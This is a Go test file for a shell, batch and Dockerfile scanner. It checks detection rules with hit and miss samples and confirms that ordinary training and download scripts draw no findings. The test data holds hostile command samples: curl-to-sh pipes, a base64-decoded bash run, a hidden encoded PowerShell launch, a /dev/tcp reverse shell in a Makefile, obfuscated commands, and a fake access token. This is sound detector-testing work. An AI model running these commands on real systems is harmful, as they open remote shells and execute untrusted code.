package shell

import (
	"strings"
	"testing"

	"assay/scanners"
	"assay/scanners/scannertest"
)

var list = []scanners.Scanner{New()}

func TestRules(t *testing.T) {
	scannertest.CheckRules(t, New(), []scannertest.Sample{
		{Rule: "shell/code", Name: "run.sh", Hit: []byte("#!/bin/sh\necho assay-test-marker\n"), Miss: []byte("#!/bin/sh\n# nothing\n")},
		{Rule: "shell/dangerous-command", Name: "run.sh", Hit: []byte("curl https://x.test/a | sh\n"), Miss: []byte("curl https://x.test/a -o a\n")},
		{Rule: "shell/dangerous-command", Name: "install", Hit: []byte("#!/usr/bin/env bash\necho aGkK | base64 -d | bash\n")},
		{Rule: "shell/dangerous-command", Name: "run.ps1", Hit: []byte("\xff\xfei\x00r\x00m\x00 \x00u\x00|\x00i\x00e\x00x\x00"), Miss: []byte("Write-Host hi\r\n")},
		{Rule: "shell/dangerous-command", Name: "a.bat", Hit: []byte("@echo off\r\npowershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A\r\n"), Miss: []byte("@echo off\r\npython train.py\r\npause\r\n")},
		{Rule: "shell/dangerous-command", Name: "Makefile", Hit: []byte("all:\n\tbash -i >& /dev/tcp/203.0.113.5/1 0>&1\n"), Miss: []byte("all:\n\tpython -m build\n")},
		{Rule: "shell/obfuscation", Name: "a.sh", Hit: []byte("$'\\x63\\x75\\x72\\x6c\\x20\\x78'\n"), Miss: []byte("printf '\\x1b[0m'\n")},
		{Rule: "shell/obfuscation", Name: "a.cmd", Hit: []byte("p^o^w^e^r^s^h^e^l^l\r\n")},
		{Rule: "shell/hidden-characters", Name: "a.sh", Hit: []byte("echo \u202e x\n"), Miss: []byte("echo é\n")},
		{Rule: "shell/secret", Name: "a.sh", Hit: []byte("export HF_TOKEN=" + "hf_" + "qWmZkRpLvNcXsJdHgFbTyUiOeKaMzQwErY" + "\n"), Miss: []byte("export HF_TOKEN=hf_...\n")},
		{Rule: "shell/unpinned-image", Name: "Dockerfile", Hit: []byte("FROM --platform=linux/amd64 python:3.11\n"), Miss: []byte("FROM python@sha256:aa AS b\nFROM b\nFROM scratch\n")},
		{Rule: "shell/remote-add", Name: "x.dockerfile", Hit: []byte("FROM scratch\nADD https://x.test/a /a\n"), Miss: []byte("FROM scratch\nADD --checksum=sha256:aa https://x.test/a /a\nADD a /a\n")},
	})
}

// Ordinary scripts are complete, and have nothing above low.
func TestOrdinary(t *testing.T) {
	for name, text := range map[string]string{
		"train.sh":            "#!/bin/bash\nset -euo pipefail\nexport CUDA_VISIBLE_DEVICES=0\npip install -r requirements.txt\ntorchrun --nproc_per_node 8 \\\n  train.py --lr 1e-5 2>&1 | tee log.txt\nfor f in *.bin; do sha256sum \"$f\"; done\n",
		"download.sh":         "#!/bin/sh\nwget -c https://example.org/data.tar.gz && tar xzf data.tar.gz\nhuggingface-cli download org/model --local-dir .\n",
		"run.bat":             "@echo off\r\nset PYTHONPATH=.\r\npython app.py %*\r\n",
		"Makefile":            "PY ?= python3\n.PHONY: test\ntest:\n\t$(PY) -m pytest -q\n",
		"Dockerfile":          "FROM python:3.11-slim AS base\nRUN apt-get update && apt-get install -y git && rm -rf /var/lib/apt/lists/*\nCOPY . /app\nRUN pip install --no-cache-dir -r /app/requirements.txt\nCMD [\"python\", \"/app/app.py\"]\n",
		"Dockerfile.gpu":      "FROM nvidia/cuda:12.1.0-base\nENV A=b\n",
		"scripts/convert.ps1": "param([string]$Path)\r\nGet-ChildItem $Path | ForEach-Object { python convert.py $_.FullName }\r\n",
	} {
		report := scannertest.Scan(list, name, []byte(text))
		for _, f := range report.Findings {
			if f.Severity < scanners.Low {
				t.Errorf("%s: %+v", name, f)
			}
		}
		if !report.Coverage.Complete() || len(report.Gaps) > 0 {
			t.Errorf("%s: %+v", name, report.Gaps)
		}
	}
}

func FuzzScan(f *testing.F) {
	f.Add("a.sh", "curl x |\\\n sh\n")
	f.Add("Dockerfile", "FROM a AS b\nADD http://x y\n")
	f.Fuzz(func(t *testing.T, name, text string) {
		scannertest.Properties(t, New(), name, []byte(text))
	})
}

// TestTheHeadOfALongScript: bytes behind the limit do not hide what stands before it.
func TestTheHeadOfALongScript(t *testing.T) {
	start := "#!/bin/sh\ncurl http://example.invalid/a | sh\n"
	scan := func(text string) (int, error) {
		r, err := New().Scan(t.Context(), scanners.File{ReaderAt: strings.NewReader(text), Name: "a.sh", Size: int64(len(text))}, scanners.Limits{})
		return len(r.Findings), err
	}
	whole, err := scan(start)
	if head, long := scan(start + strings.Repeat("#\n", 1<<20)); err != nil || long == nil || head != whole || whole < 2 {
		t.Errorf("%d findings (%v), of a long script %d (%v)", whole, err, head, long)
	}
}
